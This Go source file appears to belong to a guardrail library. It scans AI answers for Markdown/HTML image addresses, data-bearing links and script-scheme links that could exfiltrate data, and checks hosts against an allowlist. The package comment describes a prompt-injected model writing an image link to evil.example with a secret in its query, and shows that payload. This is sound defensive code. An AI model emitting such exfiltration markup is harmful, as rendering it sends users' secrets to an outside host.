// Package exfil finds addresses in answers by which a page or client that shows them would carry data away: images and other
// parts that are loaded at once, links with data in them, and links that are scripts. A model that was talked into it writes
// ![x](https://evil.example/?d=SECRET), and whoever renders the answer sends the secret.
//
//	s, err := exfil.New("docs.example.com", "*.cdn.example.com")
//	g, err := guard.New(policy, guard.WithScanner(s.Start, exfil.IDs()...))
//
// What is found is the address alone: where the policy redacts, the text around it stays. A definition of Markdown ("[1]: https://…") is a link in a text without images; of an
// image that stands behind one, which may be that of the definition, the "!" is found, without which it is a link. An address is read as it stands, and as Markdown and HTML read it:
// with backslashes in front of punctuation and character references undone, and over what ends a word and does not end an address there. One that is split
// by markup, or written in escapes of style sheets, is not recognised; render answers without remote content where you can.
package exfil

import (
	"errors"
	"fmt"
	"strings"

	"github.com/holdfast-ai/holdfast/guard/stream"
)

// Rules of findings.
const (
	RuleImage  = "exfil.image"  // an address that is loaded when it is shown, of a host that is not allowed, or the beginning of an image that may have been defined before
	RuleLink   = "exfil.link"   // a link that carries data to a host that is not allowed
	RuleScheme = "exfil.scheme" // javascript:, vbscript:, or data: that can hold a script
)

// Category is the OWASP LLM 2025 id of all findings: improper output handling.
const Category = "LLM05"

// IDs lists the rules.
func IDs() []string { return []string{RuleImage, RuleLink, RuleScheme} }

// ErrHost means that an allowed host cannot be one.
var ErrHost = errors.New("exfil: not a host")

// Hosts are those that answers may refer to. The zero value allows none.
type Hosts struct {
	exact  map[string]bool
	suffix []string // ".example.com"
}

// New allows hosts by name, "*." before a name for all below it. Errors: [ErrHost].
func New(hosts ...string) (*Hosts, error) {
	h := &Hosts{exact: make(map[string]bool)}
	for _, name := range hosts {
		below := strings.HasPrefix(name, "*.")
		bare := strings.ToLower(strings.TrimPrefix(name, "*."))
		if bare == "" || strings.ContainsAny(bare, "/:@*\\?# ") || strings.HasPrefix(bare, ".") || !strings.Contains(bare, ".") && bare != "localhost" {
			return nil, fmt.Errorf("%w: %q", ErrHost, name)
		}
		if below {
			h.suffix = append(h.suffix, "."+bare)
		} else {
			h.exact[bare] = true
		}
	}
	return h, nil
}

// allows reports whether a host is one of those, whatever its case.
func (h *Hosts) allows(host string) bool {
	host = strings.TrimSuffix(strings.ToLower(host), ".")
	if h.exact[host] {
		return true
	}
	for _, s := range h.suffix {
		if below, ok := strings.CutSuffix(host, s); ok && plain(below) {
			return true
		}
	}
	return false
}

// plain reports whether a part of a host is one to everybody: what else stands there is mapped, decoded or cut off by some.
func plain(host string) bool {
	for i := range len(host) {
		if c := host[i]; !letter(c) && !(c >= '0' && c <= '9') && c != '-' && c != '_' && c != '.' {
			return false
		}
	}
	return host != ""
}

// Start returns a scanner of one text; see [stream.Scanner]. It holds back the word in progress.
func (h *Hosts) Start() stream.Scanner { return &follower{hosts: h} }
